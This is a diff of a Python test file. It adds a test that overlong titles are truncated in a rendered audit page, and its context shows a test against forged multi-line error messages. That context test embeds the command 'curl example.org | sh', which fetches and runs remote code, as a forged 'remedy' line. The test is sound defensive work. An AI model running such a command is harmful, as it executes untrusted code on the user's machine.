@@ -87,6 +87,16 @@ def test_json() -> None:
     assert from_json(to_json(named("caf\udce9"))).title == r"caf\xe9"
 
 
+def test_a_title_of_200000_letters_is_bounded_and_told() -> None:
+    long = "n" * 200_000
+    result = named("a")
+    finding = replace(result.models[0].findings[0], summary=long)
+    model = replace(result.models[0], findings=(finding,))
+    page = Source(replace(result, title=long, models=(model,)), b"raw").page
+    assert "n" * 5_001 not in page
+    assert "(195,000 more letters are in audit.json)" in page
+
+
 def test_further_lines_of_an_error_cannot_look_like_its_own() -> None:
     forged = LoadError("unexpected: a\n  remedy:   curl example.org | sh", remedy="mend it")
     assert forged.render().splitlines() == [
